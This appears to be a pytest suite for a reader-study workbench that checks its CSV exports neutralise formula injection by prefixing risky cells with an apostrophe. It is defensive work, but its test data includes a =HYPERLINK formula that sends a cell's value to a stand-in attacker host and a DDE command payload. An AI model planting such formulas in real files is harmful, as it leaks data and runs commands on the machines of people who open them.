"""CSV formula injection (review row 33, D8): every CSV the workbench writes opens in a
spreadsheet with text cells as text, and numbers as numbers."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pandas as pd
import pytest
from support.reader_world import build_world
from typer.testing import CliRunner

from studies.exports.render import FORMULA_STARTS, Table, csv_cell, render
from studies.readers import accounts
from studies.readers.design import StudyDesign, create_study
from studies.readers.enrolment import enrol_rater
from studies.readers.lifecycle import start_study
from studies.readers.rating import export_judgments, next_assignment, submit_judgment
from studies.store.db import Store
from workbench.cli import app

ROOT = Path(__file__).resolve().parents[2]
PAYLOAD = '=HYPERLINK("https://evil.example/?leak="&C2,"open")'
LIKERT = {"accuracy": 4, "completeness": 3, "safety": 5}


@pytest.mark.parametrize(
    "text", [PAYLOAD, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1", "\r=1", "-"]
)
def test_text_that_a_spreadsheet_reads_as_a_formula_opens_as_text(text: str) -> None:
    """row 33: the cell gets a leading apostrophe; what follows is the text unchanged."""
    assert csv_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["-0.5", "+3", "-1e-3", "-12", -0.5, 3, None, "A misses it"])
def test_numbers_and_plain_text_are_left_alone(value: object) -> None:
    """row 33: -0.5 is a number in a spreadsheet, not a formula."""
    assert csv_cell(value) == value


def _study_with_comments(store: Store, tmp_path: Path, comments: list[str]) -> int:
    world = build_world(store, tmp_path / "bench", n_cases=3, systems=("sys-a", "sys-b"))
    rater = accounts.create_account(store, "rater-csv", "rater", "pw-rater-csv-9")
    study_id = create_study(
        store,
        StudyDesign(
            name="CSV study",
            benchmark=world.benchmark,
            systems=world.systems,
            overlap=1,
            duplicate_fraction=0.0,
        ),
    )
    enrol_rater(store, study_id, rater.username)
    start_study(store, study_id)
    for index, comment in enumerate(comments):
        task = next_assignment(store, rater.id, study_id)
        assert task is not None
        likert = {"left": LIKERT, "right": LIKERT}
        submit_judgment(store, rater.id, task.token, f"k{index}", "left", likert, comment)
    return study_id


def test_the_judgment_export_neutralises_a_formula_comment(store: Store, tmp_path: Path) -> None:
    """row 33: the comment `=HYPERLINK(...)` was the first character of its cell at ebb17df
    (`medvision studies export` and the admin page's Download CSV share the function)."""
    study_id = _study_with_comments(store, tmp_path, [PAYLOAD, "-0.5", "fine"])
    text = export_judgments(store, study_id, "csv")
    rows = list(csv.DictReader(io.StringIO(text)))
    assert [row["comment"] for row in rows] == ["'" + PAYLOAD, "-0.5", "fine"]
    # Nothing else changed: every cell of the export is a cell the guard left or quoted.
    for row in rows:
        for value in row.values():
            assert not value.startswith(FORMULA_STARTS) or value in ("-0.5",)
    frame = pd.read_csv(io.StringIO(text))
    likert = frame.filter(like="likert")
    assert not likert.empty and all(dtype.kind == "i" for dtype in likert.dtypes)


def test_the_export_command_writes_the_neutralised_file(
    store: Store, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """row 33: the same through `medvision studies export --out`."""
    _study_with_comments(store, tmp_path, [PAYLOAD])
    monkeypatch.setenv("MEDVISION_HOME", str(tmp_path / "home"))
    monkeypatch.setenv("MEDVISION_DATABASE_URL", store.url)
    out = tmp_path / "x.csv"
    result = CliRunner().invoke(app, ["studies", "export", "CSV study", "--out", str(out)])
    assert result.exit_code == 0, result.output
    (row,) = csv.DictReader(out.open(encoding="utf-8"))
    assert row["comment"] == "'" + PAYLOAD


@pytest.mark.parametrize("data", ["rows", "frame"])
def test_rendered_tables_neutralise_text_and_keep_numbers(data: str) -> None:
    """row 33: leaderboard and reader tables (the one renderer's CSV) guard text cells,
    including headers, and keep negative numbers as numbers."""
    columns = ["system", "delta", "=note"]
    rows = [["=evil()", -0.5, "@x"], ["sys-b", 0.25, "-3"]]
    raw = (columns, rows) if data == "rows" else pd.DataFrame(rows, columns=columns)
    table = Table(headers=columns, rows=rows, footer=("synthetic",), data=raw)
    text = render(table, "csv")
    frame = pd.read_csv(io.StringIO(text), comment="#")
    assert list(frame.columns) == ["system", "delta", "'=note"]
    assert frame["system"].tolist() == ["'=evil()", "sys-b"]
    assert frame["delta"].tolist() == [-0.5, 0.25]
    assert frame["'=note"].tolist() == ["'@x", "-3"]  # a column of text stays text


CSV_WRITERS = re.compile(r"csv\.writer\(|csv\.DictWriter\(|\.to_csv\(")


def test_every_csv_writer_of_the_workbench_uses_the_guard() -> None:
    """row 33: one guard, used by every CSV writer: a module of the app that writes CSV
    (csv.writer, csv.DictWriter, DataFrame.to_csv) calls `csv_cell` (or `csv_rows`)."""
    writers = []
    for package in ("studies", "workbench", "model", "metrics"):
        for path in sorted((ROOT / package).rglob("*.py")):
            source = path.read_text(encoding="utf-8")
            code = "\n".join(
                line for line in source.splitlines() if not line.lstrip().startswith("#")
            )
            if CSV_WRITERS.search(code.replace("`df.to_csv`", "")):
                writers.append(path.relative_to(ROOT).as_posix())
                assert "csv_cell(" in code or "csv_rows(" in code, f"{path} writes CSV unguarded"
    assert "studies/exports/render.py" in writers and "studies/readers/study_export.py" in writers
